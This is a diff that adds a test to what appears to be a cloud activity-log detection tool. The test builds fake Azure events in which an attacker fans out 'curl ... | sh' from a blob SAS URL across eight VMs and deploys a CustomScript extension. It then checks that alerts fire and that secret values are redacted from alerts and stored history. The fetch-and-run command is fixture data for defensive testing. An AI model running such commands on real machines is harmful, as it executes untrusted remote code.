@@ -95,3 +95,32 @@ async def test_reorder_window_is_a_setting(run: Ingest):
     limits = ActivityLimits(inspect_bodies=False, reorder=timedelta(0))
     report = await run(routine(2), limits)
     assert report.judged == report.records
+
+
+async def test_secrets_in_record_bodies_reach_neither_the_alerts_nor_the_history(run: Ingest, store):
+    import json
+
+    import sqlalchemy as sa
+
+    from inspector.store.schema import metadata
+
+    sas = "https://acct.blob.core.windows.net/c/x.sh?sv=2022-11-02&sr=b&sig=SASSECRETVALUE123%3D"
+    await run(routine(14))
+    start = T0 + timedelta(days=14, hours=2)
+    fan_out = [run_command(vm(f"vm-{i:02d}"), start + timedelta(minutes=i), caller="mallory@evil.example",
+                           ip="198.51.100.7", script=[f"curl -s '{sas}' | sh"]) for i in range(8)]
+    cse = event("Microsoft.Compute/virtualMachines/extensions/write", f"{vm('vm-01')}/extensions/cse",
+                start + timedelta(minutes=9), caller="mallory@evil.example", ip="198.51.100.7",
+                body={"properties": {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
+                                     "settings": {"fileUris": [sas]},
+                                     "protectedSettings": {"commandToExecute": "sh x.sh PROTECTEDSECRET42"}}})
+    report = await run([*fan_out, cse])
+    assert report.alerts
+    shown = json.dumps([a.model_dump(mode="json") for a in report.alerts])
+    history = [t for t in metadata.sorted_tables if t.name.startswith("activity")]
+    assert len(history) >= 5
+    async with store.database.engine.connect() as conn:
+        for table in history:
+            shown += json.dumps([list(r) for r in (await conn.execute(sa.select(table))).all()], default=str)
+    assert "mallory@evil.example" in shown  # the history was read, not an empty dump
+    assert "SASSECRETVALUE123" not in shown and "PROTECTEDSECRET42" not in shown
